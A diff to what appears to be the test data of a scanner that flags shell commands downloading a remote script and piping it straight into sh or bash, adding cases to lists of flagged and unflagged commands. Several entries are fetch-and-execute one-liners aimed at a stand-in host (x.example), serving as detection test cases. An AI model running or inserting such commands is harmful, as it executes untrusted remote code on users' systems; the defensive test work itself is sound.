@@ -55,6 +55,7 @@ DOWNLOADS_RUN = [
     "wget -O - https://x.example/i.sh | sh",
     "wget -q -O- https://x.example/i.sh | bash",
     "wget --output-document=- https://x.example/i.sh | sh",
+    "curl -fsSL https://x.example/i.sh 2>/dev/null | sh",
 ]
 # Downloads kept, filtered or unpacked, and scripts run from a file: no finding.
 DOWNLOADS_KEPT = [
@@ -75,7 +76,9 @@ DOWNLOADS_KEPT = [
     "wget -q https://x.example/i.sh | sh",
     "Invoke-WebRequest https://x.example/i.ps1 -OutFile i.ps1 | iex",
     # Kept, checked, unpacked or read as data.
+    "curl -fsSL https://x.example/i.sh > /tmp/i.sh | sh",
     "curl -fsSL https://x.example/i.sh | tee /tmp/i.sh > /dev/null",
+    "curl -fsSL https://x.example/i.sh | tee /tmp/i.sh >/dev/null | sh; sh /tmp/i.sh",
     "curl -fsSL https://x.example/i.sh.sha256 | sha256sum -c",
     "curl -fsSL https://x.example/a.tgz | tar xz -C /opt",
     "curl -fsSL https://x.example/r.json | jq -r .tag_name",
